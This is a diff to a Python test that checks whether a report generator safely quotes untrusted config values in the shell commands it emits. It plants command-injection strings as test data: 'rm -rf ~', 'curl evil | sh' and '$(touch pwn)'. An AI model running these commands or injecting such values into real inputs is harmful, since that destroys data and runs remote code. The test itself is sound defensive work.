@@ -246,6 +246,11 @@ def test_commands_name_no_path_and_no_file(tmp_path: Path) -> None:
     found["provenance"]["config"]["method"] = "wanda; rm -rf ~"
     commands = " ".join(cases.text_of(report.build(cases.fill(tmp_path / "b", diagnose=found)), "code"))
     assert "'wanda; rm -rf ~'" in " ".join(commands.split()) and "--text" not in commands
+    found["provenance"]["config"]["x; curl evil | sh #"] = 1
+    found["provenance"] |= {"sources": [{"source": "builtin:$(touch pwn)", "share": 1.0}]}
+    commands = " ".join(cases.text_of(report.build(cases.fill(tmp_path / "b", diagnose=found)), "code"))
+    assert "curl" not in commands and "--text 'builtin:$(touch pwn)'@1" in " ".join(commands.split())
+    del found["provenance"]["sources"]
     found["provenance"]["config"] = {"compensate": "none", "damping": None, "sequential": False}
     assert "pyprune prune" not in report.build(cases.fill(tmp_path / "b", diagnose=found))  # a mask chose
     found["provenance"]["config"]["keep"] = 0.5
